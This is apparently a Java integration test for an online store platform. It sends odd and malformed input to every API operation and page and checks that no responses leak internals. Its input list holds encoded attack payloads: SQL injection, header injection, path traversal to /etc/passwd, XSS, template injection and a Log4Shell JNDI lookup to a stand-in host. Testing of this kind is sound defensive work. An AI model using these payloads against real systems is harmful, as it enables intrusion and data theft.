package org.emporion.system.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.util.ArrayList;
import java.util.List;
import org.emporion.system.attack.OpenApi.Operation;
import org.emporion.system.browser.BesideABrowser;
import org.emporion.system.client.Answer;
import org.emporion.system.client.Api;
import org.emporion.system.client.Given;
import org.emporion.system.client.Stack;
import org.emporion.system.client.Store;
import org.junit.jupiter.api.Test;

/** Odd input at every operation and page: an answer in our own words, never a fault, and nothing about our insides. */
@BesideABrowser
class OddInputIT {
    private static final List<String> ODD = List.of(
            "%27",
            "%27%20or%201%3D1--",
            "%00",
            "%0d%0aSet-Cookie:%20x=y",
            "..%2f..%2fetc%2fpasswd",
            "%24%7Bjndi:ldap:%2F%2Fevil.example%2Fx%7D",
            "%23%7B7*7%7D",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "%F0%9F%92%A9",
            "-1",
            "99999999999999999999",
            "a".repeat(2_000));

    private static final List<String> BODIES =
            List.of("", "{", "[]", "null", "\"x\"", "{\"a\":", "{}", "[".repeat(5_000), "<x/>", "\u0000");

    @Test
    void atEveryOperationOfTheApis() {
        Store store = Given.aSellerWithAnOpenStore();
        List<String> leaks = new ArrayList<>();
        for (OpenApi api : OpenApi.all(store.asOwner())) {
            for (Operation operation : api.operations()) {
                if (operation.method().equals("GET")) {
                    ODD.forEach(odd -> leaks.addAll(TellsNothing.leaks(read(operation, odd))));
                } else if (!operation.body().isMissingNode()) {
                    BODIES.forEach(body -> leaks.addAll(TellsNothing.leaks(write(operation, body))));
                }
            }
        }
        assertThat(leaks).isEmpty();
    }

    @Test
    void atEveryKindOfPage() {
        List<String> leaks = new ArrayList<>();
        String shop = Stack.addresses().storefront();
        for (String odd : ODD) {
            List.of(
                            "/c/",
                            "/s/",
                            "/s/x/p/",
                            "/orders/",
                            "/media/",
                            "/search?q=",
                            "/search?page=",
                            "/?x=",
                            "/pages/",
                            "/")
                    .forEach(
                            path -> leaks.addAll(TellsNothing.leaks(Api.at(shop).get(path + odd))));
            List.of("/orders/order?id=", "/errors/", "/", "/jakarta.faces.resource/")
                    .forEach(path -> leaks.addAll(TellsNothing.leaks(
                            Api.at(Stack.addresses().seller()).get(path + odd))));
            List.of("/tenants/tenant?id=", "/", "/enter?to=")
                    .forEach(path -> leaks.addAll(
                            TellsNothing.leaks(Api.at(Stack.addresses().admin()).get(path + odd))));
        }
        List.of("TRACE", "PROPFIND", "DELETE", "PUT", "FOO")
                .forEach(method -> leaks.addAll(
                        TellsNothing.leaks(Api.at(shop).send(method, "/", null, BodyPublishers.noBody()))));
        assertThat(leaks).isEmpty();
    }

    @Test
    void whatTellsTooMuchWouldBeNoticed() {
        assertThat("at org.emporion.catalog.product.Products.find(Products.java:3)")
                .containsPattern("at org\\.");
    }

    private static Answer read(Operation operation, String odd) {
        String query =
                operation.path().contains("{") ? "" : "?page=" + odd + "&size=" + odd + "&q=" + odd + "&status=" + odd;
        return operation.of().api().get(operation.with(odd) + query);
    }

    private static Answer write(Operation operation, String body) {
        return operation
                .of()
                .api()
                .send(operation.method(), operation.with("x"), "application/json", BodyPublishers.ofString(body));
    }
}
